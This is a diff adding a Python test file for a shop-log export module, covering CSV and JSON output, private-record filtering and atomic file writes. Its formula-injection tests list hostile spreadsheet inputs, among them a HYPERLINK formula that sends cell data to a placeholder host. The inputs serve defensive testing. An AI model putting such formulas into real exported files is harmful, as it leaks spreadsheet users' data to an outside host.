@@ -1,0 +1,213 @@
+"""A log's setups as CSV and JSON: every field, no formula; a file is written whole or not."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from shoplog.find import export
+from shoplog.find.export import (
+    COLUMNS,
+    guarded,
+    records_csv,
+    records_json,
+    unguarded,
+    write_whole,
+)
+from shoplog.find.published import read_published
+from shoplog.find.record import FIGURES, RECORD, Figures, Record
+
+ONE = Record(
+    page="boat-winch/bush.md",
+    anchor="setup",
+    line=12,
+    run=1,
+    date="2026-03-14",
+    operation="turning, finish",
+    material="free-cutting brass",
+    diameter_mm=16.4,
+    fault=("chatter", "burr"),
+    remarks='"stoned"\tedge, then fine',
+    ran=Figures(spindle_speed_rpm=1180.0, feed_per_rev_mm=0.06, passes=2),
+)
+
+
+def rows_of(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_the_columns_are_the_fields_of_a_record_then_its_plan_then_its_run() -> None:
+    text = records_csv([ONE])
+    head = text.partition("\r\n")[0].split(",")
+    assert tuple(head) == COLUMNS
+    assert head[: len(RECORD)] == [known.name for known in RECORD]
+    assert head[len(RECORD) :] == [
+        f"{run}_{known.name}" for run in ("planned", "ran") for known in FIGURES
+    ]
+
+
+def test_a_record_is_a_row_and_what_is_not_known_is_empty() -> None:
+    (row,) = rows_of(records_csv([ONE]))
+    filled = {name: text for name, text in row.items() if text}
+    assert filled == {
+        "page": "boat-winch/bush.md",
+        "anchor": "setup",
+        "line": "12",
+        "run": "1",
+        "date": "2026-03-14",
+        "operation": "turning, finish",
+        "material": "free-cutting brass",
+        "diameter_mm": "16.4",
+        "fault": "chatter, burr",
+        "remarks": '"stoned"\tedge, then fine',
+        "private": "no",
+        "ran_spindle_speed_rpm": "1180",
+        "ran_feed_per_rev_mm": "0.06",
+        "ran_by_hand": "no",
+        "ran_passes": "2",
+    }
+
+
+def test_rows_end_as_rfc_4180_has_it() -> None:
+    text = records_csv([ONE, ONE])
+    assert text.count("\r\n") == 3
+    assert text.replace("\r\n", "").count("\n") == 0
+
+
+def test_a_number_is_never_guarded_and_one_that_is_none_is_empty() -> None:
+    odd = replace(ONE, diameter_mm=-0.5, length_mm=float("inf"), stick_out_mm=1e-7)
+    (row,) = rows_of(records_csv([odd]))
+    assert (row["diameter_mm"], row["length_mm"], row["stick_out_mm"]) == ("-0.5", "", "1e-07")
+
+
+def test_private_setups_are_left_out_unless_asked_for() -> None:
+    both = [ONE, replace(ONE, anchor="setup-2", private=True)]
+    assert [row["anchor"] for row in rows_of(records_csv(both))] == ["setup"]
+    asked = rows_of(records_csv(both, private=True))
+    assert [(row["anchor"], row["private"]) for row in asked] == [
+        ("setup", "no"),
+        ("setup-2", "yes"),
+    ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+1",
+        "-0.02 off",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "'=1",
+        '=HYPERLINK("https://host.example/?"&A1,"see")',
+        "＝1+1",
+        "fine;=1+1",
+        "fine\t=1+1",
+    ],
+)
+def test_a_text_that_a_spreadsheet_takes_for_a_formula_is_guarded(text: str) -> None:
+    found = guarded(text)
+    assert found != text
+    for separator in ",;\t":
+        for cell in next(csv.reader([found.replace("\r", " ")], delimiter=separator)):
+            assert cell[:1] not in ("=", "+", "-", "@", "＝", "\t"), (text, separator)
+    assert unguarded(found) == text
+
+
+@pytest.mark.parametrize("text", ["", "good", "'tis", "a = 1", "1-1/2 in", "x; -0.02 off"])
+def test_another_text_stays_what_it_is(text: str) -> None:
+    assert guarded(text) == text
+    assert unguarded(text) == text
+
+
+@given(st.text(alphabet="=+-@'; \t\r\nab", max_size=12) | st.text())
+def test_every_text_comes_back_from_its_guard(text: str) -> None:
+    assert unguarded(guarded(text)) == text
+
+
+@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40))
+def test_every_text_comes_back_from_its_cell(text: str) -> None:
+    (row,) = csv.DictReader(io.StringIO(records_csv([replace(ONE, remarks=text)]), newline=""))
+    assert unguarded(row["remarks"]) == text
+
+
+def test_json_is_the_published_form() -> None:
+    text = records_json([ONE], name="Saltmarsh Lane")
+    assert read_published(text, "x") == (replace(ONE, remarks='"stoned" edge, then fine'),)
+    assert json.loads(text)["log"] == "Saltmarsh Lane"
+    assert records_json([], name="x").endswith('"records":[\n\n]}\n')
+
+
+def test_json_with_the_private_ones_says_which_they_are() -> None:
+    both = [ONE, replace(ONE, anchor="setup-2", private=True, remarks='{"a": 1}\n')]
+    assert len(json.loads(records_json(both, name="x"))["records"]) == 1
+    found = json.loads(records_json(both, name="x", private=True))["records"]
+    assert [one.get("private", False) for one in found] == [False, True]
+    assert found[1]["anchor"] == "setup-2"
+    assert len(read_published(records_json(both, name="x", private=True), "x")) == 2
+
+
+def test_a_file_is_written_with_its_folder_and_as_it_is(tmp_path: Path) -> None:
+    path = tmp_path / "new" / "all.csv"
+    write_whole(path, "a\r\nb\r\n")
+    assert path.read_bytes() == b"a\r\nb\r\n"
+    assert [one.name for one in path.parent.iterdir()] == ["all.csv"]
+    umask = os.umask(0o022)
+    os.umask(umask)
+    assert path.stat().st_mode & 0o777 == 0o666 & ~umask
+
+
+def test_a_file_that_is_there_is_left_alone_unless_it_is_to_be_replaced(tmp_path: Path) -> None:
+    path = tmp_path / "all.csv"
+    path.write_text("mine", "utf-8")
+    with pytest.raises(FileExistsError, match=r"all\.csv is there already$"):
+        write_whole(path, "new")
+    assert path.read_text("utf-8") == "mine"
+    write_whole(path, "new", over=True)
+    assert path.read_text("utf-8") == "new"
+    assert [one.name for one in tmp_path.iterdir()] == ["all.csv"]
+
+
+def test_a_file_that_comes_while_another_is_written_is_left_alone(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = tmp_path / "all.csv"
+    path.write_text("theirs", "utf-8")
+    monkeypatch.setattr(Path, "exists", lambda _self: False)
+    with pytest.raises(FileExistsError, match="is there already"):
+        write_whole(path, "ours")
+    assert path.read_text("utf-8") == "theirs"
+    assert [one.name for one in tmp_path.iterdir()] == ["all.csv"]
+
+
+def test_where_a_disk_knows_no_links_a_file_is_still_never_replaced(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def no_links(*_: object) -> None:
+        raise PermissionError("no links here")
+
+    monkeypatch.setattr(export.os, "link", no_links)
+    path = tmp_path / "all.csv"
+    write_whole(path, "ours")
+    assert path.read_text("utf-8") == "ours"
+    with pytest.raises(FileExistsError):
+        write_whole(path, "again")
+
+
+def test_a_write_that_fails_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def full(_: int) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(export.os, "fsync", full)
+    with pytest.raises(OSError, match="No space left"):
+        write_whole(tmp_path / "all.csv", "text")
+    assert list(tmp_path.iterdir()) == []
